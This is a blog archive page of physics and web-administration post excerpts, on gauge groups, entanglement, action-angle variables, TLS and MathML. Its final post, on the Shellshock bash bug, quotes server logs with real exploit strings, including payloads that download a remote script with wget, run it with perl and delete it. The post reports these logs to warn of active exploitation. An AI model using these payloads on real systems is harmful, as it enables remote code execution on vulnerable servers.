Skip to the Main Content

Note:These pages make extensive use of the latest XHTML and CSS Standards. They ought to look great in any standards-compliant modern browser. Unfortunately, they will probably look horrible in older browsers, like Netscape 4.x and IE 4.x. Moreover, many posts use MathML, which is, currently only supported in Mozilla. My best suggestion (and you will thank me when surfing an ever-increasing number of sites on the web which have been crafted to use the new standards) is to upgrade to the latest version of your browser. If that's not possible, consider moving to the Standards-compliant and open-source Mozilla browser.

March 21, 2021

Cosmic Strings in the Standard Model

Over at the n-Category Café, John Baez is making a big deal of the fact that the global form of the Standard Model gauge group is G=(SU(3)×SU(2)×U(1))/N G = (SU(3)\times SU(2)\times U(1))/N where NN is the 6\mathbb{Z}_6 subgroup of the center of G=SU(3)×SU(2)×U(1)G'=SU(3)\times SU(2)\times U(1) generated by the element (e 2πi/3𝟙,𝟙,e 2πi/6)\left(e^{2\pi i/3}\mathbb{1},-\mathbb{1},e^{2\pi i/6}\right).

The global form of the gauge group has various interesting topological effects. For instance, the fact that the center of the gauge group is Z(G)=U(1)Z(G)= U(1), rather than Z(G)=U(1)× 6Z(G')=U(1)\times \mathbb{Z}_6, determines the global 1-form symmetry of the theory. It also determines the presence or absence of various topological defects (in particular, cosmic strings). I pointed this out, but a proper explanation deserved a post of its own.

None of this is new. I’m pretty sure I spent a sunny afternoon in thesummer of 1982 on the terrace of Café Pamplona doing this calculation. (As any incoming graduate student should do, I spent many a sunny afternoon at a café doing this and similar calculations.)

Posted by distler at 12:27 AM | Permalink | Followups (9)

January 6, 2020

Entanglement for Laymen

I’ve been asked, innumerable times, to explain quantum entanglement to some lay audience. Most of the elementary explanations that I have seen (heck, maybe all of them) fail to draw any meaningful distinction between “entanglement” and mere “(classical) correlation.”

This drives me up the wall, so each time I am asked, I strive to come up with an elementary explanation of the difference. Rather than keep reinventing the wheel, let me herewith record my latest attempt.Posted by distler at 2:30 PM | Permalink | Followups (9)

February 28, 2019

Instiki 0.30.0 and tex2svg 1.0

Instiki is my wiki-cum-collaboration platform. It has a built-inWYSIWYG vector-graphics drawing program, which is great for making figures. Unfortunately:

  • An extra step is required, in order to convert the resulting SVG into PDF for inclusion in the LaTeX paper. And what you end up with is a directory full of little PDF files (one for each figure), which need to be managed.
  • Many of my colleagues would rather use Tikz, which has become the de-facto standard for including figures in LaTeX.

Obviously, I needed to include Tikz support in Instiki. But, up until now, I didn’t really see a good way to do that, given that I wanted something that is

  1. Portable
  2. Secure
Posted by distler at 2:21 PM | Permalink | Followups (5)

February 15, 2019


I finally got around to enabling Brotli compression on Golem. Reading the manual, I came across the BrotliAlterETag directive:

Description: How the outgoing ETag header should be modified during compression
Syntax: BrotliAlterETag AddSuffix|NoChange|Remove

with the description:

Append the compression method onto the end of the ETag, causing compressed and uncompressed representations to have unique ETags. In another dynamic compression module, mod_deflate, this has been the default since 2.4.0. This setting prevents serving “HTTP Not Modified (304)” responses to conditional requests for compressed content.
Don’t change the ETag on a compressed response. In another dynamic compression module, mod_deflate, this has been the default prior to 2.4.0. This setting does not satisfy the HTTP/1.1 property that all representations of the same resource have unique ETags.
Remove the ETag header from compressed responses. This prevents someconditional requests from being possible, but avoids the shortcomings of the preceding options.

Sure enough, it turns out that ETags+compression have been completely broken in Apache 2.4.x. Two methods for saving bandwidth, and delivering pages faster, cancel each other out and chew up more bandwidth than if one or the other were disabled.

Posted by distler at 9:47 AM | Permalink | Post a Comment

December 27, 2018

Pythonurllib2 and TLS

I was thinking about dropping support for TLSv1.0 in this webserver. All the major browser vendors have announced that they are dropping it from their browsers. And you’d think that since TLSv1.2 has been around for a decade, even very old clients ought to be able to negotiate a TLSv1.2 connection.

But, when I checked, you can imagine my surprise that this webserver receives a ton of TLSv1 connections… including from the application that powers Planet Musings. Yikes!

The latter is built around the Universal Feed Parser which uses the standard Python urrlib2 to negotiate the connection. And therein lay the problem …

Posted by distler at 11:28 AM | Permalink | Post a Comment

February 24, 2017


Many years ago, when I was an assistant professor at Princeton, there was a cocktail party at Curt Callan’s house to mark the beginning of the semester. There, I found myself in the kitchen, chatting with Sacha Polyakov. I asked him what he was going to be teaching that semester, and he replied that he was very nervous because — for the first time in his life — he would be teaching an undergraduate course. After my initial surprise that he had gotten this far in life without ever having taught an undergraduate course, I asked which course it was. He said it was the advancedundergraduate Mechanics course (chaos, etc.) and we agreed that would be a fun subject to teach. We chatted some more, and then he said that, on reflection, he probably shouldn’t be quite so worried. After all, it wasn’t as if he was going to teach Quantum Field Theory, “That’s a subject I’d feel responsible for.”

This remark stuck with me, but it never seemed quite so poignant until this semester, when I find myself teaching the undergraduate particle physics course.

Posted by distler at 6:13 PM | Permalink | Followups (28)

December 4, 2016

MathML Update

For a while now, Frédéric Wang hasbeen urging me to enable native MathML rendering for Safari. He and his colleagues have made many improvements to Webkit’s MathML support. But there were at least two show-stopper bugs that prevented me from flipping the switch.

Posted by distler at 2:56 PM | Permalink | Followups (1)

June 14, 2016


I really like the science fiction TV series The Expanse. In addition to a good plot and a convincing vision of human society two centuries hence, it depicts, as Phil Plait observes, a lot of good science in a matter-of-fact, almost off-hand fashion. But one scene (really, just a few dialogue-free seconds in a longer scene) has been bothering me. In it, Miller, the hard-boiled detective living on Ceres, pours himself a drink. And we see — as the whiskey slowly pours from the bottle into the glass — that the artificial gravity at the lower levels (where the poor people live) is significantly weaker than near the surface (where the rich live) and that there’s a significant Coriolis effect. Unfortunately, the effect depicted is 3 orders-of-magnitude too big.

Posted by distler at 4:40 PM | Permalink | Followups (2)

January 10, 2016


There’s a general mantra that we all repeat to ourselves: gauge transformations are not symmetries; they are redundancies of our description. There is an exception, of course: gauge transformations that don’t go to the identity at infinity aren’t redundancies; they are actual symmetries.Strominger, rather beautifully showed that BMS supertranslations (or, more precisely, a certain diagonal subgroup of BMS +\text{BMS}^+ (which act as supertranslations on +\mathcal{I}^+) and BMS \text{BMS}^- (which act as supertranslations on \mathcal{I}^-) are symmetries of the gravitational S-matrix. The corresponding conservation laws are equivalent to Weinberg’s Soft-Graviton Theorem. Similarly, in electromagnetism, the U(1)U(1) gauge transformations which don’t go to the identity on ±\mathcal{I}^\pm give rise to the Soft-Photon Theorem.

A while back, there was considerable brouhaha about Hawking’s claim that BMS symmetry had something to do with resolving the blackhole information paradox. Well, finally, a paper from Hawking, Perry and Strominger has arrived.

Cue further brouhaha

Posted by distler at 11:39 AM | Permalink | Followups (23)

June 19, 2015

Asymptotic Safety and the Gribov Ambiguity

Recently, an old post of mine about the Asymptotic Safety program for quantizinggravity received a flurry of new comments. Inadvertently, one of the pseudonymous commenters pointed out yet another problem with the program, which deserves a post all its own.

Before launching in, I should say that

  1. Everything I am about to say was known to Iz Singer in 1978. Though, as with the corresponding result for nonabelian gauge theory, the import seems to be largely unappreciated by physicists working on the subject.
  2. I would like to thank Valentin Zakharevich, a very bright young grad student in our Math Department for a discussion on this subject, which clarified things greatly for me.
Posted by distler at 3:11 AM | Permalink | Followups (9)May 12, 2015

Action-Angle Variables

This semester, I taught the Graduate Mechanics course. As is often the case, teaching a subject leads you to rethink that you thought you understood, sometimes with surprising results.

The subject for today’s homily is Action-Angle variables.

Let (,ω)(\mathcal{M},\omega) be a 2n2n-dimensional symplectic manifold. Let us posit that \mathcal{M} had a foliation by nn-dimensional Lagrangian tori (a torus, TMT\subset M, is Lagrangian if ω| T=0\omega|_T =0). Removing a subset, SS\subset \mathcal{M}, of codimension codim(S)2codim(S)\geq 2, where the leaves are singular, we can assume that all of the leaves on =\S\mathcal{M}'=\mathcal{M}\backslash S are smooth tori of dimension nn.

The objective is to construct coordinates φ i,K i\varphi^i, K_i with the following properties.

  1. The φ i\varphi^i restrict to angular coordinates on the tori. In particular φ i\varphi^i shifts by 2π2\pi when you go around the corresponding cycle on TT.
  2. The K iK_i are globally-defined functions on \mathcal{M} which are constant on each torus.
  3. The symplectic form ω=dK idφ i\omega= dK_i\wedge d \varphi^i.

From 1, it’s clear that it’s more convenient to work with the 1-forms dφ id\varphi^i, which are single-valued (and closed, but not necessarily exact), rather than with the φ i\varphi^i themselves. In 2, it’s rather important that the K iK_i are really globally-defined. In particular, an integrable Hamiltonian is a function H(K)H(K). The K iK_i are the nn conserved quantities which make the Hamiltonian integrable.

Obviously, a given foliation is compatible with infinitely many “integrable Hamiltonians,” so the existence of a foliation is the more fundamental concept.

All of this is totally standard.

What never really occurred to me is that the standard construction of action-angle variables turns out to be very closely wedded to the particular case of a cotangent bundle, =T *M\mathcal{M}=T^*M.

As far as I can tell, action-angle variables don’t even exist for foliations of more general symplectic manifolds, \mathcal{M}.

Posted by distler at 11:49 AM |Permalink | Followups (24)

December 18, 2014

Smoke Signals, Morse Code or … ?

It seemed like a straightforward question. If you use Apple’s to store your contacts, you’ve surely noticed this behaviour: some of your contacts auto-magically sprout clickable links for Facetime video/audio chats, with no intervention on your part. I was curious enough to submit a query about it, via Apple’s Support Site: seems to know whether each of my contacts has registered their email for FaceTime, even if I have NEVER tried to facetime with them (or call their cell-phone or …). How does it do this? Are all of the email addresses in my addressbook automatically uploaded to Apple’s servers? If so, how do I turn this off, as it seems to be a MASSIVE invasion of my privacy.

That was a month and a half ago (2014/11/02). Today, I received a response:

Posted by distler at 3:14 PM | Permalink | Followups (14)

October 25, 2014


Wow! After a decade, Wikipedia finally rolls out MathML rendering. Currently, only available (as an optional preference) to registered users. Hopefully, in a few more years, they’ll make it the default.

Some implementation details are available at Frédéric’s blog.

Posted by distler at 1:19 AM | Permalink | Followups (4)

September 27, 2014

Shellshock and MacOSX

Most Linux Distros have released patches for the recently-discovered “Shellshock” bug in /bin/bash. Apple has not, despite the fact that it uses bash as the default system shell(/bin/sh).

If you are running a webserver, you are vulnerable. Even if you avoid the obvious pitfall of writing CGI scripts as shellscripts, you are still vulnerable if one of your Perl (or PHP) scripts calls out to system(). Even Phusion Passenger is vulnerable. And, yes, this vulnerability is being actively exploited on the Web. - - [24/Sep/2014:20:35:04 -0500] "GET / HTTP/1.0" 301 402 "() { :; }; ping -c 11" "shellshock-scan (" "-" - - - - - [25/Sep/2014:02:50:59 -0500] "GET /cgi-sys/defaultwebpage.cgi HTTP/1.0" 301 411 "-" "() { :;}; /bin/ping -c 1" "-" - - - - - [25/Sep/2014:18:55:31 -0500] "GET / HTTP/1.1" 301 379 "() { :; }; /bin/ping -c 1" "() { :; }; /bin/ping -c 1" "-" - - - - - [25/Sep/2014:20:05:01 -0500] "GET/ HTTP/1.1" 301 379 "-" "() { :;}; /bin/bash -c \"echo testing9123123\"; /bin/uname -a" "-" - - - - - [26/Sep/2014:03:29:40 -0500] "GET /cgi-bin/php5 HTTP/1.0" 301 391 "-" "() { :;}; /bin/bash -c \"wget -O /var/tmp/wow1;perl /var/tmp/wow1;rm -rf /var/tmp/wow1\"" "-" - - - - - [26/Sep/2014:03:29:40 -0500] "GET /cgi-bin/php HTTP/1.0" 301 390 "-" "() { :;}; /bin/bash -c \"wget -O /var/tmp/wow1;perl /var/tmp/wow1;rm -rf /var/tmp/wow1\"" "-" - - - - - [26/Sep/2014:03:29:40 -0500] "GET /cgi-bin/php.fcgi HTTP/1.0" 301 395 "-" "() { :;}; /bin/bash -c \"wget -O /var/tmp/wow1;perl /var/tmp/wow1;rm -rf /var/tmp/wow1\"" "-" - - - - - [26/Sep/2014:03:29:40 -0500] "GET /cgi-bin/ HTTP/1.0" 301 394 "-" "() { :;}; /bin/bash -c \"wget -O 